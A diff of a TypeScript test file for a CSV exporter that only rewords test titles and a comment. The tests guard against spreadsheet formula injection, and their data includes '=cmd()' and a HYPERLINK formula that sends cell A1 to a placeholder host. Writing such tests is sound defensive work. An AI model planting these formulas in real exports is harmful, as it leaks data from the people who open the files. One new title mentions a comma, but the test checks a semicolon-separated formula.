@@ -4,7 +4,7 @@ import { csvRows } from '@/lib/domain/catalogue-file/csv-rows'
 import { toCsv } from '@/lib/domain/text/csv'
 import { readCsv } from '@/lib/domain/text/read-csv'
 
-it('ends every line and quotes only what needs it', () => {
+it('ends every line and quotes only where necessary', () => {
   expect(
     toCsv([
       ['email', 'lang'],
@@ -14,11 +14,11 @@ it('ends every line and quotes only what needs it', () => {
   expect(toCsv([])).toBe('')
 })
 
-it.each(['=cmd()', '+1', '-1', '@sum', '\tx'])('gives a spreadsheet no formula: %o', (text) => {
+it.each(['=cmd()', '+1', '-1', '@sum', '\tx'])('%o is no formula in a spreadsheet', (text) => {
   expect(toCsv([[text]]).replaceAll('"', '')).toBe(`'${text}\r\n`)
 })
 
-/** The cells of a text as a spreadsheet of another country cuts it: a quotation mark quotes at a cell's start alone. */
+/** The cells of a line as spreadsheets of other locales split it: a quotation mark quotes at a cell's start only. */
 function cellsOf(text: string, separator: string): string[] {
   const cell = new RegExp(
     `(?:"((?:[^"]|"")*)"?([^${separator}\\r\\n]*)|([^${separator}\\r\\n]*))(${separator}|\\r\\n|\\r|\\n|$)`,
@@ -45,12 +45,12 @@ it.each([',', ';', '\t'])('has no formula where cells are separated by %j', (sep
   )
 })
 
-it('keeps what a French spreadsheet shows of a name that holds a formula plain', () => {
+it('keeps a name with a comma readable in a French spreadsheet', () => {
   const file = toCsv([['26-4821-7730', 'Bob;=HYPERLINK("http://x?"&A1;"open")']])
   expect(cellsOf(file, ';')[1]).toBe(`'=HYPERLINK(""http://x?""&A1`)
 })
 
-it('is read back as it was, guards taken off', async () => {
+it('is parsed back as it was, with formula guards removed', async () => {
   const rows = tables.map((table) => table.filter((row) => row.some((field) => field !== '')))
   await fc.assert(
     fc.asyncProperty(rows, async (table) => {
